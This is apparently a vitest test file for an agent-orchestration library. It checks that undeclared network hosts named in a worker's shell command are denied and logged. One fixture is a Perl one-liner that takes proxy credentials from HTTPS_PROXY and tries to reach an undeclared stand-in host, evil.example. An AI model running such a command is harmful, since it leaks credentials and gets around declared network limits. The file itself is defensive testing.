import { expect, test } from "vitest";
import { createLegate } from "../../src/index.ts";
import { scriptedModels } from "../../src/testing/index.ts";
import { makeShop } from "../support/shop.ts";

/** Asks its way out for two hosts, the second of which it did not declare; nothing is resolved or dialed. */
const ASKS =
  'perl -MSocket -MMIME::Base64 -e \'$ENV{HTTPS_PROXY} =~ m{//(.*)@}; for (@ARGV) { socket($s, AF_INET, SOCK_STREAM, 0); connect($s, sockaddr_in(3128, inet_aton("127.0.0.1"))); print $s "CONNECT $_ HTTP/1.1\\r\\nProxy-Authorization: Basic ", encode_base64($1, ""), "\\r\\n\\r\\n"; $s->flush; print scalar <$s> }\' evil.example:443 127.0.0.1:443';

test("a call that names a host is asked about, and what its command then asked for is in the journal", async () => {
  using shop = makeShop();
  const asking = { tool: "run_command", arguments: { shell: ASKS, network: ["Good.example"] } };
  const customModels = scriptedModels([{ calls: [asking] }, { text: "done" }]);
  await using legate = await createLegate({ stateDir: shop.stateDir, customModels });
  const workspace = { kind: "worktree", repo: shop.repo } as const;
  const { id } = await legate.spawn({ task: "go", model: "any", preset: "network", workspace });
  const [waiting] = (await legate.wait(id)).workers;
  expect(waiting).toMatchObject({ status: "waiting", waitingOn: "approval" });
  expect(waiting?.questions[0]?.question).toMatch(/^run \[network good\.example:443\] perl /);

  await legate.approve(id, { by: "ann" });
  expect((await legate.wait(id)).workers).toMatchObject([{ status: "completed" }]);
  const records = (await legate.records(id)).map(({ record }) => record);
  const at = records.findIndex(({ type }) => type === "network.decided");
  expect(records[at]).toEqual({
    type: "network.decided",
    call: "t1.1",
    decisions: [
      { target: "evil.example:443", decision: "deny", rule: "not declared", times: 1 },
      { target: "(unreadable)", decision: "deny", rule: "request: not a host and port", times: 1 },
    ],
    leftOut: 0,
  });
  expect(records[at + 1]).toMatchObject({ type: "call.finished", call: "t1.1", status: "ok" });
});

test("a worker that may reach no host is refused a call that names one, and runs the same without", async () => {
  using shop = makeShop();
  const named = { tool: "run_command", arguments: { argv: ["true"], network: ["good.example:443"] } };
  const plain = { tool: "run_command", arguments: { argv: ["true"] } };
  const customModels = scriptedModels([{ calls: [named, plain] }, { text: "done" }]);
  await using legate = await createLegate({ stateDir: shop.stateDir, customModels });
  const workspace = { kind: "worktree", repo: shop.repo } as const;
  const policy = { networkHosts: ["other.example"] };
  for (const authority of [{ preset: "build" }, { preset: "network", policy }] as const) {
    const { id } = await legate.spawn({ task: "go", model: "any", workspace, ...authority });
    expect((await legate.wait(id)).workers).toMatchObject([{ status: "completed", deniedCalls: 1 }]);
    const types = (await legate.records(id)).map(({ record }) => record.type);
    expect(types.filter((type) => type === "call.finished")).toHaveLength(1);
    expect(types).not.toContain("network.decided");
  }
});
